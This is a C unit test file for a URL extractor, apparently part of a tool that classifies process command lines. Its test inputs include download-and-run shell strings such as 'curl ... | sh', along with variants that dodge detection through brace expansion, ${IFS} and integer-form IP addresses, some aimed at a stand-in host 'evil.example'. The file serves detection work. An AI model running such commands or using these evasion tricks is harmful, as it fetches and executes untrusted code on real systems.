#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/text.h"
#include "classify/url_find.h"

/* The URLs of a text in which "\1" stands for the NUL between two arguments, with " | " between. */
static void
check(const char *arguments, const char *expected)
{
	_cleanup_text_ struct lw_text found = {0};
	char text[1024];
	struct lw_url_text t = {.text = text, .length = strlen(arguments)};
	const char *url;
	size_t length;

	lw_text_init(&found, 4096);
	lw_copy_string(text, sizeof(text), arguments);
	for (char *p = text; *p || p < &text[t.length]; p++)
		if (*p == '\1')
			*p = '\0';
	while ((url = lw_url_next(&t, &length))) {
		assert_true(url >= text && &url[length] <= &text[t.length]);
		lw_text_adds(&found, found.length > 0 ? " | " : "");
		lw_text_add(&found, url, length);
	}
	assert_string_equal(found.data ? found.data : "", expected);
}

static void
urls_are_found_in_arguments(void **state)
{
	check("curl\1http://evil.example/a;b&c\1-s\1", "http://evil.example/a;b&c");
	check("curl\1HTTPS://Evil.example/\1ftp://b.example/x\1",
		"HTTPS://Evil.example/ | ftp://b.example/x");
	check("app\1--url=http://a.example/?x=1&y=2\1", "http://a.example/?x=1&y=2");
	check("app\1http://\1x://y\1://\1nothing\1", "");
	check("http://a.example/", "http://a.example/");
	check("", "");
}

static void
urls_are_found_in_shell_and_code(void **state)
{
	check("sh\1-c\1curl -s http://a.example/x|sh\1", "http://a.example/x");
	check("sh\1-c\1wget 'http://a.example/?a=1&b=2' -O-; x\1", "http://a.example/?a=1&b=2");
	check("sh\1-c\1(curl http://a.example/x)&& http_proxy=http://b.example:80 y\1",
		"http://a.example/x | http://b.example:80");
	check("python3\1-c\1urllib.request.urlopen(\"http://a.example/x\").read()\1",
		"http://a.example/x");
	check("bash\1-c\1{curl,-fsSL,http://a.example/x}|{sh}\1", "http://a.example/x");
	check("sh\1-c\1curl${IFS}http://a.example/x|sh\1", "http://a.example/x");
	check("sh\1-c\1x http://p.example/?u=http://a.example/\1",
		"http://p.example/?u=http://a.example/ | http://a.example/");
}

static void
hosts_are_found_after_downloaders(void **state)
{
	check("curl\1-sL\1a.example/x.sh\1", "a.example/x.sh");
	check("/usr/bin/wget\1"
	      "203.0.113.7:8000/x\1",
		"203.0.113.7:8000/x");
	check("sh\1-c\1curl a.example | sh; cat file.txt\1", "a.example");
	check("sh\1-c\1cd /tmp && wget -q 3405803783/x -O y\1", "3405803783/x");
	/* without a downloader a word with a dot is a file */
	check("cat\1file.txt\1a.example/x\1", "");
	check("curl\1localhost\1-X\1POST\1", "");
}

static void
what_is_found_is_bounded(void **state)
{
	static const char one[] = "http://a.example/";
	static char text[sizeof(one) * LW_URLS_MAX * 2];
	struct lw_url_text t = {.text = text, .length = sizeof(text)};
	unsigned n = 0;
	size_t length;

	for (size_t i = 0; i + sizeof(one) <= sizeof(text); i += sizeof(one))
		memcpy(&text[i], one, sizeof(one));
	while (lw_url_next(&t, &length))
		n++;
	assert_int_equal(n, LW_URLS_MAX);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(urls_are_found_in_arguments),
		cmocka_unit_test(urls_are_found_in_shell_and_code),
		cmocka_unit_test(hosts_are_found_after_downloaders),
		cmocka_unit_test(what_is_found_is_bounded),
	};

	return cmocka_run_group_tests_name("url_find", tests, NULL, NULL);
}
